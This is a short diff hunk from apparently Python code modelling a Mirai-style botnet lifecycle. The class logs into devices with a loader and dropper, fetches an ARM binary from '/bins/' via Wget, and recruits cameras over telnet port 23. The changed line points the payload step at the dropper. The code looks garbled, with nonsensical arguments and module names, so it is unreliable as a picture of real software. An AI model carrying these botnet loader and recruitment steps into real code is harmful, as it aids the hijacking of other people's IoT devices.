@@ -44,7 +44,7 @@ class Life(lifecycle.Mirai):
     def load(self):
         self.log_in(lifecycle.LOADER, [RIGHT], "ECCHI", *intruders.dropper(self.drop_line()))
         self.fetch("/bins/EXAMPLE.arm7", "Wget")
-        self.decisive = self.signs[-1].frames[0]
+        self.decisive = self.dropper  # the program itself follows at once
 
     def recruit(self):
         self.server, start = self.open(self.camera.v4, lifecycle.COMMAND, 23)
